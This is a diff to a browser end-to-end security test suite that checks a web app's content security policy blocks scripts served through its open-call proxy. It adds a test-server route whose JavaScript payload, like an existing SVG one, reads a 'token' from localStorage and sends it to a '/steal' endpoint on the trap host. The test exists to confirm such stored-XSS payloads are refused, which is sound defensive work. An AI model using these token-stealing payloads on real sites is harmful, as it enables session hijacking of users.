@@ -46,10 +46,13 @@ async function hostileUpstream(): Promise<Trap> {
       '/xml': 'application/xhtml+xml',
       '/plain': 'text/plain',
       '/none': '',
+      '/js': 'application/javascript; charset=utf-8',
     };
     const type = types[url.pathname] ?? 'text/html';
     const body =
-      url.pathname === '/svg'
+      url.pathname === '/js'
+        ? `window.__pwned = 'ran'; fetch('${base}/steal?t='+encodeURIComponent(localStorage.getItem('token')||'none'));`
+        : url.pathname === '/svg'
         ? `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${base}/steal?t='+localStorage.getItem('token'))</script></svg>`
         : `<html><body>${payload()}</body></html>`;
     res.writeHead(200, type ? { 'content-type': type } : {});
@@ -118,11 +121,35 @@ describe.skipIf(!hasChromium)('the browser: open-call origin, CSP, stored XSS', 
     expect(trap.stolen).toEqual([]);
   });
 
+  it('an open call answering JavaScript can never be a script of the app (#26.7)', async () => {
+    const id = await insertApi(e2e.server, `${trap.url}/js`);
+    const src = `${e2e.server.url}/api/open/api/${id}`;
+    expect((await fetch(src)).headers.get('content-type')).toMatch(/javascript/);
+    await e2e.go('/home');
+    // What an injected <script src> on the app's own page would get (a stored-XSS sink, a gadget).
+    const outcome = await page.evaluate(
+      (url) =>
+        new Promise<string>((resolve) => {
+          const s = document.createElement('script');
+          s.src = url;
+          s.onload = () => resolve('loaded');
+          s.onerror = () => resolve('refused');
+          document.head.appendChild(s);
+        }),
+      src,
+    );
+    expect(outcome).toBe('refused');
+    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned ?? null)).toBeNull();
+    expect(trap.stolen).toEqual([]);
+  });
+
   it('the app is served with its security headers', async () => {
     const res = await fetch(`${e2e.server.url}/`);
     const csp = res.headers.get('content-security-policy') ?? '';
     expect(csp).toContain("frame-ancestors 'none'");
-    expect(csp).toMatch(/script-src 'self' 'sha256-[^']+'/);
+    // Scripts only from this host's /assets/ (never 'self', which would admit /api/open/api/{id}).
+    expect(csp).toMatch(new RegExp(`script-src ${new URL(e2e.server.url).host}/assets/ 'sha256-[^']+'`));
+    expect(csp).not.toMatch(/script-src 'self'/);
     expect(csp).toContain("object-src 'none'");
     expect(res.headers.get('x-content-type-options')).toBe('nosniff');
     expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
